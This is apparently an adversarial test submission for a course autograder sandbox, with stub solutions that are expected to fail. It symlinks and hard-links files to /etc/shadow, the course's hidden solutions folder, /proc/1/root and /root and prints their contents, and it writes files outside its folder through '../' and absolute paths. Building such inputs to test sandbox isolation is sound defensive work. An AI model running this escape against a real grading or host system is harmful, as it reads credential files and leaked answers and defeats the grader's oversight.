"""Symbolic and hard links to the host's files where the examiner reads and writes, and paths that climb."""
# loses: check_bill_cents check_price_tag
# %% + first
import autograders, os
COURSE = os.path.dirname(os.path.dirname(autograders.__file__))
for name, target in (("out.csv", "/etc/shadow"), ("notebook.ipynb", f"{COURSE}/solutions"), ("up", "../../../../../.."), ("root", "/proc/1/root"),
                     ("../escape", "/root"), ("day.csv", "/tmp/labs-attack-link"), ("fd", "/proc/self/fd/0")):
    for link in (os.symlink, os.link):
        try:
            link(target, name)
            print(name, os.listdir(name) if os.path.isdir(name) else open(name).read(100))
        except OSError:
            pass
# %% bill_cents
def bill_cents(plan, dishes):
    return 0
# %% price_tag
def price_tag(cents):
    return ""
# %% file ../../../../tmp/labs-attack-climb.txt
climbed
# %% file data/../../../climb.py
print("climbed")
# %% file /tmp/labs-attack-absolute.txt
absolute
